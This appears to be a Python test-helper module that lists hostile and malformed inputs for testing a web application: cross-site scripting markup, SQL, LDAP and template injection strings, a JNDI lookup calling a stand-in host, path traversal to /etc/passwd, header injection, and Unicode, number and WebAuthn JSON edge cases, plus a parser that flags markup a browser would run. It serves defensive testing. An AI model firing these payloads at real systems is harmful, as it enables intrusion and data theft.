"""What people who mean harm type, and people whose keyboard does odd things."""

from __future__ import annotations

from html.parser import HTMLParser

MARKS = "canary"
MARKUP = (
    f"<script>{MARKS}(1)</script>",
    f"<img src=x onerror={MARKS}(1)>",
    f"<svg/onload={MARKS}(1)>",
    f'" autofocus onfocus="{MARKS}(1)',
    f"' hx-get='/{MARKS}' hx-trigger='load",
    f'<div hx-get="/{MARKS}" hx-on:load="{MARKS}()" data-hx-vals="js:{MARKS}()">',
    f"</textarea></title><script>{MARKS}(1)</script>",
    f'<noscript><p title="</noscript><img src=x onerror={MARKS}(1)>">',
    f"<math><mtext><table><mglyph><style><!--</style><img onerror={MARKS}(1)>",
    f"[x](javascript:{MARKS}(1))",
    f"javascript:{MARKS}(1)",
    f"data:text/html,<script>{MARKS}(1)</script>",
    f"<style>@import '//{MARKS}.example'</style>",
    f"<iframe srcdoc='<script>{MARKS}(1)</script>'></iframe>",
    f'<meta http-equiv=refresh content="0;url=//{MARKS}.example">',
    f"<base href=//{MARKS}.example/>",
)
CODE = (
    "' OR 1=1--",
    "*)(uid=*",
    "{{7*7}}",
    "{% load static %}",
    "${jndi:ldap://canary.example/a}",
    "%s %(x)s %d {0} {x!r}",
    "../../../../etc/passwd",
    "a\r\nBcc: canary@example.org",
    "=HYPERLINK(canary)",
    "__proto__",
    "(a+)+$" * 20,
    "%_%_%_%",
)
LETTERS = (
    "a\x00b",
    "\ud800",
    "%ED%A0%80",
    "a" + "\u0301" * 1000,
    "\u202eevil",
    "\u200b\u200d\ufeff",
    "\u2028\u2029",
    "   \t\n ",
    "\ufdd0\uffff",
    "\U0010ffff",
    "\uff11\uff12",
    "\u0661\u0662",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30,
    "e" * 200_000,
)
NUMBERS = (
    "-1", "0", "01", "+1", " 1", "1e0", "1e309", "NaN", "Infinity", "-inf", "1.0",
    "9" * 30, "9" * 5000, "0x10", "1_000", "\uff11", "\u0661", "\u00b2", "null",
    "9999-12-31", "0001-01-01", "2026-02-30", "23:59:60", "99:99",
)  # fmt: skip
_RESPONSE = '{"id":"YQ","rawId":"YQ","type":"public-key","response":%s}'
JSON = (
    "[]", "{}", '"a"', "1", "null", "NaN", "1e400", "[" * 40_000, '{"a":' * 40_000,
    '{"id":1}', '{"id":"a","id":"b"}', '{"__proto__":{"x":1},"constructor":1}',
    '{"id":"\\ud800","rawId":"\\u0000"}', '{"id":"YQ","rawId":"YQ","response":"x"}',
    _RESPONSE % "{}", _RESPONSE % "[]",
    _RESPONSE % '{"clientDataJSON":"e30","attestationObject":"oA"}',
    _RESPONSE % '{"clientDataJSON":"e30","authenticatorData":"YQ","signature":"YQ"}',
    _RESPONSE % (
        '{"clientDataJSON":"YQ","authenticatorData":"' + "A" * 200
        + '","signature":"YQ","userHandle":"/w"}'
    ),
)  # fmt: skip


def sendable(words: str) -> str:
    """Return what a browser would really send: it has no way to say half a letter."""
    return words.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


class _Live(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # What is only data, a browser does not run.
        is_data = dict(attrs).get("type") in {"application/json", "application/ld+json"}
        self.script = tag in {"script", "style"} and not is_data
        for name, value in attrs:
            acts = name.startswith(("on", "hx-on", "data-hx")) or name == "srcdoc"
            leads = name in {"href", "src", "action", "hx-get", "hx-post"} and (
                (value or "").strip().lower().startswith(("javascript:", "data:text"))
                or f"//{MARKS}" in (value or "")
                or (value or "").startswith(f"/{MARKS}")
            )
            if acts or leads or MARKS in name:
                self.found.append(f"<{tag} {name}={value}>")
        if tag in {"iframe", "base", "object", "embed", "math", "meta-refresh"}:
            self.found.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self.script and MARKS in data:
            self.found.append(data)

    def handle_endtag(self, tag: str) -> None:
        self.script = False


def live_in(html: str) -> list[str]:
    """Return everything of ours that would act if a browser read this page."""
    reader = _Live()
    reader.feed(html)
    return reader.found
